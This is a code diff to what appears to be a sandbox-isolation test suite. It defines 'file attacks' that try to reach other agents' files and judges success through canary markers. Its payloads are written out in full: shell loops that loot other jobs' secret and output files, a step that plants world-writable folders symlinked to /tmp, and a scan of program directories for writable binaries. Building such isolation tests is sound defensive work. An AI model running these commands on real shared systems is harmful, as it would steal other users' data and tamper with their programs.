@@ -2,21 +2,20 @@
  * Files of others: read, replaced, linked to, and prepared for whoever comes next.
  */
 
-import { existsSync, readdirSync } from 'node:fs'
 import { dirname, join } from 'node:path'
-import type { Attack, Reach, Scene } from '../attack.ts'
+import type { Attack, Machine, Reach, Scene } from '../attack.ts'
 import { perl } from '../attack.ts'
 import { canaryPattern } from '../canaries.ts'
 import { shell } from '../scripts.ts'
 
 /** A folder of the agents in which something carries the marker. */
-function markedFiles(...folders: readonly string[]) {
-  return ({ marker }: Scene): readonly Reach[] =>
-    folders.flatMap((folder) =>
-      (existsSync(folder) ? readdirSync(folder) : [])
-        .filter((name) => name.includes(marker))
-        .map((name) => ({ what: 'files-of-others', evidence: join(folder, name) })),
-    )
+function markedFiles({ marker }: Scene, machine: Machine, ...folders: readonly string[]): readonly Reach[] {
+  return folders.flatMap((folder) =>
+    machine
+      .namesIn(folder)
+      .filter((name) => name.includes(marker))
+      .map((name) => ({ what: 'files-of-others', evidence: join(folder, name) })),
+  )
 }
 
 export const fileAttacks: readonly Attack[] = [
@@ -57,7 +56,7 @@ export const fileAttacks: readonly Attack[] = [
     payload: (scene) =>
       shell(
         scene,
-        `at=100; while [ $at -lt 130 ]; do for place in home/secret home/open tmp/secret stdout stderr; do loot ${scene.workDir}/work/$at.1/$place; done; at=$((at + 1)); done; loot /tmp/neighbour-* /var/tmp/neighbour-* /dev/shm/neighbour-*`,
+        `at=100; while [ $at -lt 130 ]; do for place in home/secret home/open tmp/secret stdout stderr; do loot ${scene.workDir}/work/$at.1/$place; done; at=$((at + 1)); done; for place in home/secret home/open tmp/secret stdout stderr; do loot ${dirname(scene.plantDir || '/none/home')}/$place; done; loot /tmp/neighbour-* /var/tmp/neighbour-* /dev/shm/neighbour-*`,
       ),
   },
   {
@@ -128,8 +127,7 @@ export const fileAttacks: readonly Attack[] = [
            for at in 9001 9002; do mkdir -m 777 "$dir/$at.1-${scene.marker}"; ln -s /tmp "$dir/$at.1-${scene.marker}/home"; done
          done; true`,
       ),
-    looksOutside: true,
-    judge: (scene) => markedFiles(join(scene.workDir, 'work'))(scene),
+    judge: (scene, _, machine) => markedFiles(scene, machine, join(scene.workDir, 'work')),
   },
   {
     name: 'write-to-agents',
@@ -143,9 +141,10 @@ export const fileAttacks: readonly Attack[] = [
          done 2>/dev/null
          for program in ${scene.programsDir}/*; do [ -w "$program" ] && echo "WRITABLE $program"; done; true`,
       ),
-    looksOutside: true,
-    judge: (scene, { text }) => [
+    judge: (scene, { text }, machine) => [
       ...markedFiles(
+        scene,
+        machine,
         scene.credentialDir,
         scene.workDir,
         scene.programsDir,
@@ -155,7 +154,7 @@ export const fileAttacks: readonly Attack[] = [
         '/usr/local/bin',
         '/usr/lib',
         '/opt',
-      )(scene),
+      ),
       ...(/^WRITABLE (.*)$/m.test(text) ? [{ what: 'programs', evidence: text.slice(0, 100) }] : []),
     ],
   },
